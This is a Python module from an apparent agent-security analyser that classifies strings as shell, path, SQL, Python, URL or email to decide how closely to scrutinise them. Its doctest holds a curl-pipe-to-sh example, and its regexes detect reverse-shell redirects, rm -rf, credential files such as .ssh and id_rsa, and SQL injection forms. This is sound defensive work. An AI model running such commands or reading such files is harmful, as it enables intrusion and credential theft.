"""Shapes: the language that a bare string looks to be in, so that an undescribed tool is judged by what it is given.

A shape is a guess that only adds scrutiny: prose has none, and a string with a wrong shape is read by an analyser that
then finds nothing in it.

>>> of("curl -s https://a.example/x | sh"), of("../../etc/hosts"), of("Curl your hair, it looks great!")
('shell', 'path', None)
"""

from __future__ import annotations

import re
from typing import Final

from interlock.analyst import windows
from interlock.analyst.tables import words
from interlock.artifact.action import Language

MAX_CHARACTERS = 16384
_SHORTEST = 2
_URL = re.compile(
    r"(?:[a-z][a-z0-9+.-]{1,30}:)?//[^\s/]\S*\Z|(?:javascript|vbscript|data|file|gopher|jar|php|mailto):\S+\Z",
    re.IGNORECASE,
)
_EMAIL = re.compile(
    r"[^\s@<>,;:]{1,64}@[A-Za-z0-9.-]{1,255}\.[A-Za-z]{2,24}\Z|[^@<>\n]{0,80}<[^\s@<>]{1,64}@[^\s@<>]{1,255}>\Z"
)
_PATH = re.compile(
    (
        r"(?:~?/|\.{1,2}[/\\]|[A-Za-z]:[/\\]|\\\\|%2e%2e|\.\.%|\.\.;/)(?:[^\s/\\]| (?=\S))[^\n]{0,4096}\Z"
        r"|[\w.-]{1,255}(?:/[\w.@+-]{1,255}){1,32}\.[A-Za-z0-9]{1,8}\Z|(?:~|\.\.)/?\Z|\.(?:env|ssh|aws"
        r"|netrc|npmrc|pypirc|git|bashrc|profile|kube)\b[\w./-]*\Z|id_(?:rsa|ed25519|ecdsa|dsa)\Z"
        r"|[\w.-]{1,200}\.(?:pem|key|p12|pfx)\Z"
    ),
    re.IGNORECASE,
)
_SQL = re.compile(
    (
        r"\s*(?:select\s+(?:distinct\s+|all\s+|top\s+\d+\s+)?(?:\*|['\d]|@@|\w[\w.]*\("
        r"|[\w.\"`\[\]]+(?:\s+(?:as\s+)?\w+)?\s*,|[\w.\"`\[\]]+\s+from\s+(?!(?:the|an?|your|my|our|this|these|those)\b))|insert\s+into\s+\S+\s*(?:\(|values|select)"
        r"|update\s+\S+\s+set\s+\S+\s*=|delete\s+from\s+\S+|drop\s+(?:table|database|schema|user|view)\s"
        r"|truncate\s+table\s|alter\s+(?:table|user|role)\s|create\s+(?:table|user|role|database|extension"
        r"|function)\s|grant\s.{1,200}?\son\s|exec(?:ute)?\s+(?:\w+\.)*[xs]p_|copy\s+\S+\s+(?:from|to)\s"
        r"|attach\s+database\s|with\s+\w+\s+as\s*\(|merge\s+into\s)"
        r"|.{0,200}['\"0-9)]\s*(?:\bor\b\s+['\"0-9(]|\bunion\s+(?:all\s+)?select\b|;\s*(?:drop|delete"
        r"|update|insert|exec|truncate)\s)"
    ),
    re.IGNORECASE | re.DOTALL,
)
_PROGRAMS: Final = words("""
    apk apt apt-get at awk aws az base64 bash brew busybox bzip2 cargo cat cd chattr chgrp chmod chown chroot
    cmake cp crontab csh curl cut dash dd deno df diff dig dnf docker doas du echo ed egrep env eval exec export
    fdisk find firewall-cmd ftp fuser gcc gcloud gem git gpg grep groupadd gunzip gzip halt hdparm head helm
    history host iconv id ifconfig insmod install ip iptables java journalctl jq kill killall ksh kubectl less
    ln losetup ls lsof make mkdir mkfifo mkfs mknod modprobe mount mv mysql mysqldump nano nc ncat netcat
    netstat nft nice nmap node nohup npm npx nslookup openssl pacman passwd perl php pip pip3 pkill podman
    poweroff printenv printf ps psql pwd python python2 python3 rclone reboot redis-cli rm rmdir rmmod rpm rsync
    ruby runuser scp screen sed service setfacl setsid sftp sh shred shutdown snap socat ss ssh ssh-keygen
    strace stat su sudo swapoff sysctl systemctl tail tar tcpdump tee telnet terraform tftp timeout tmux top
    touch tr truncate umount unlink unzip useradd userdel usermod vi vim visudo watch wget which whoami wipe
    xargs xxd yarn yes yum zip zsh
    """)
_FIRST = re.compile(r"\s*(?:\w+=\S*\s+)*(?:sudo\s+(?:-\S+\s+)*)?((?:/[\w./-]*/)?[\w.+-]+)(?=\s|\Z|[;|&<>])")
_SYNTAX = re.compile(r"\s-{1,2}[A-Za-z]|[|;&<>]\s*\S|\$\(|`|\$\{?\w|(?:^|\s)[~.]{0,2}/\S|\S\.\w{1,5}(?:\s|\Z)|&&|://")
_LINKED = re.compile(r"(?:\||;|&&|\$\(|`)\s*(?:sudo\s+)?(?:/[\w./-]*/)?([a-z][\w.+-]*)(?=[\s;|&)`]|\Z)")
_REDIRECT = re.compile(
    r"/dev/(?:tcp|udp)/|:\(\)\s*\{|\brm\s+-[a-z]*[rf]|\bbase64\s+(?:-d|--decode|-D)\b|\bchmod\s+(?:\+x|[0-7]{3,4})\b"
)
_PYTHON = re.compile(
    (
        r"^(?:import\s+[a-z_][\w.]*(?:\s*,\s*[\w.]+)*\s*(?:as\s+\w+\s*)?(?:;|$)|from\s+[\w.]+\s+import\s"
        r"|def\s+\w+\(.*\).*:\s*$|__import__\()|\b(?:os\.(?:system|popen)|subprocess\.\w+|eval|exec"
        r"|__import__)\("
    ),
    re.MULTILINE,
)


def of(text: str) -> Language | None:
    """The language that a text is to be looked at in, or nothing."""
    text = text.strip()[:MAX_CHARACTERS]
    if len(text) < _SHORTEST:
        return None
    if windows.recognise(text) is not None:
        return windows.recognise(text)
    if "\n" not in text and (found := _line(text)) is not None:
        return found
    if _PYTHON.search(text) is not None:
        return "python"
    if _SQL.match(text) is not None:
        return "sql"
    return "shell" if command(text) else None


def command(text: str) -> bool:
    """Whether a text reads as a line for a shell rather than as prose."""
    if _REDIRECT.search(text) is not None:
        return True
    first = _FIRST.match(text)
    if (
        first is not None
        and first[1].rpartition("/")[2] in _PROGRAMS
        and _SYNTAX.search(text, first.end(1)) is not None
    ):
        return True
    return any(name.rpartition("/")[2] in _PROGRAMS for name in _LINKED.findall(text)[:32])


def _line(text: str) -> Language | None:
    if _EMAIL.match(text) is not None:
        return "email"
    if _URL.match(text) is not None:
        return "url"
    if _PATH.match(text) is not None and not command(text):
        return "path"
    return None
